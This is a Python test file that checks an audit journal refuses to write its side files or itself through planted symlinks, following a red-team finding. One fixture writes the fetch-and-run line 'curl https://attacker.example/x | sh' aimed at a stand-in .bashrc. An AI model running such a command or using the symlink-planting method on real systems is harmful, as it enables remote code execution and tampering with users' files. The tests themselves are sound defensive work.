"""The journal's side files are never written through a planted link (red-team finding):
``journal.torn`` and ``journal.checkpoints.jsonl`` were opened following links, so whoever
could write the journal's folder made the program append to, or cut, a file of the user's."""

from __future__ import annotations

from pathlib import Path

import pytest

from portal_admin.evidence import journal as jr
from portal_admin.evidence import keys
from support import links

CHANGE = {"kind": "change", "operation": "accounts.status", "outcome": "ok"}

pytestmark = pytest.mark.skipif(not links.can_make_symlinks(), reason=links.NO_LINKS)


def test_a_torn_tail_is_appended_through_a_planted_link(tmp_path: Path) -> None:
    """Attack: end the journal with a line without its newline (a "torn" record whose text
    is a shell command) and plant ``journal.torn`` as a link to a stand-in for ``~/.bashrc``.
    The next append set the torn line aside with ``open("ab")``, following the link: the
    attacker's text was appended to the user's file. Now the link is refused, the torn line
    stays in the journal (ended by a newline: a damaged line verify names), and appends go
    on, chained."""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    first = jr.Journal(path)
    for n in range(3):
        first.append({**CHANGE, "targets": [f"ACC{n}"]})
    first.close()
    with path.open("ab") as fh:
        fh.write(b"curl https://attacker.example/x | sh")  # no newline: a torn tail
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the user's shell start-up\n")
    path.with_suffix(".torn").symlink_to(victim)
    journal = jr.Journal(path)
    journal.append({**CHANGE, "targets": ["AFTER"]})
    journal.close()
    assert victim.read_text() == "# the user's shell start-up\n", (
        "the torn line was appended to the file a planted link points at"
    )
    result = jr.verify(path)
    assert [(p.line, p.reason) for p in result.problems] == [(4, "not-json")]
    assert [r["targets"] for r in jr.read(path) if r["kind"] == "change"][-1] == ["AFTER"]


def test_a_checkpoint_is_written_through_a_planted_link_and_cuts_the_target(
    tmp_path: Path,
) -> None:
    """Attack: ``journal.checkpoints.jsonl`` planted as a link to a user file whose end is not
    a newline. ``checkpoints.append`` opened it following links, took the last line for one
    "cut short by a kill" and truncated it away, then appended a checkpoint. Now the link is
    refused (the checkpoint is not written, logged) and the user's file is untouched."""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    victim = tmp_path / "home" / "notes.txt"
    victim.parent.mkdir()
    victim.write_bytes(b"first line\nthe last line, without a newline")
    (path.parent / "journal.checkpoints.jsonl").symlink_to(victim)
    store = keys.MemoryStore()
    journal = jr.Journal(path, signer=lambda: keys.signing_key(store), checkpoint_every=1)
    for n in range(3):
        journal.append({**CHANGE, "targets": [f"ACC{n}"]})
    journal.close()
    assert victim.read_bytes() == b"first line\nthe last line, without a newline", (
        "a planted link made the checkpoint writer cut and append to a user file"
    )
    assert len(list(jr.read(path))) == 3  # the records themselves are written


def test_the_journal_itself_is_not_written_through_a_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"mine\n")
    path = tmp_path / "journal.jsonl"
    path.symlink_to(victim)
    journal = jr.Journal(path)
    journal.append({**CHANGE, "targets": ["A"]})
    journal.close()
    assert victim.read_bytes() == b"mine\n"
